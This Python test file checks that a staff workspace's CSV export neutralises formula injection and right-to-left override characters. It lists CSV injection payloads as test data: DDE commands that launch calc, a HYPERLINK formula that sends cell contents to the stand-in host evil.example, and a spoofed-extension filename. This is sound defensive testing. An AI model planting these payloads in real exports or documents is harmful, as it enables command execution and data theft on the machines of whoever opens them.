"""Red team: the staff workspace's CSV export as a carrier of formulas and reversed text.

Member names (the member list) and the portal's ``external_id`` reach «Входящие пакеты» →
CSV. A cell starting with ``=``, ``+``, ``-``, ``@``, TAB or CR is run by a spreadsheet
(``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``); the export prefixed those with ``'`` but not
one hidden behind a blank or an invisible character that an import trims, nor the
full-width forms; and a right-to-left override was written as is (the pages show it as
``[U+202E]``). Every cell now passes one helper: direction controls shown like on the
pages (the templates' own helper), then a formula-looking cell prefixed with ``'``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gateway.app import create_app
from gateway.config import Config
from gateway.http.staff.views import csv_cell
from tests.pki.builder import TestPki
from tests.servers.packages import MEMBER, REPORT, ClientFactory, report_zip, submit
from tests.servers.staff import add_staff, sign_in

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Открыть\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(A1)",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_looking_cell_is_neutralised(value: str) -> None:
    assert csv_cell(value) == "'" + value


def test_direction_controls_are_shown_not_obeyed() -> None:
    assert csv_cell("Справка\u202efdp.exe") == "Справка[U+202E]fdp.exe"
    assert csv_cell("\u2067=1+1\u2069") == "[U+2067]=1+1[U+2069]"  # shown: the cell no longer starts with a control


@pytest.mark.parametrize("value", ["ВХ-2026-000317", "КПК «Ромашка»", "42", "30.11.2026 10:00", "lk-2026-000123", "a=b", "", "Приём-передача"])
def test_control_ordinary_cells_are_kept(value: str) -> None:
    assert csv_cell(value) == value


async def test_the_export_neutralises_a_hostile_member_name_and_external_id(
    aiohttp_client: ClientFactory, config: Config, pki: TestPki, tmp_path: Path
) -> None:
    members = config.storage.members_csv
    rows = list(csv.reader(io.StringIO(members.read_text(encoding="utf-8"))))
    hostile_name = "=HYPERLINK(\"http://evil.example\";\"КПК\u202eакшамоР\")"
    rows[1][3] = hostile_name
    with open(members, "w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    add_staff(config)
    client = await aiohttp_client(create_app(config))
    assert rows[1][0] == MEMBER
    await submit(client, {**REPORT, "external_id": "@SUM(1+1)*cmd|' /C calc'!A0"}, {"document": [report_zip(pki, tmp_path)]})
    await sign_in(client)
    exported = (await (await client.get("/staff/export.csv")).read()).decode("utf-8-sig")
    _header, row = list(csv.reader(io.StringIO(exported), delimiter=";"))[:2]
    assert row[2] == "'=HYPERLINK(\"http://evil.example\";\"КПК[U+202E]акшамоР\")"
    assert row[9] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert "\u202e" not in exported
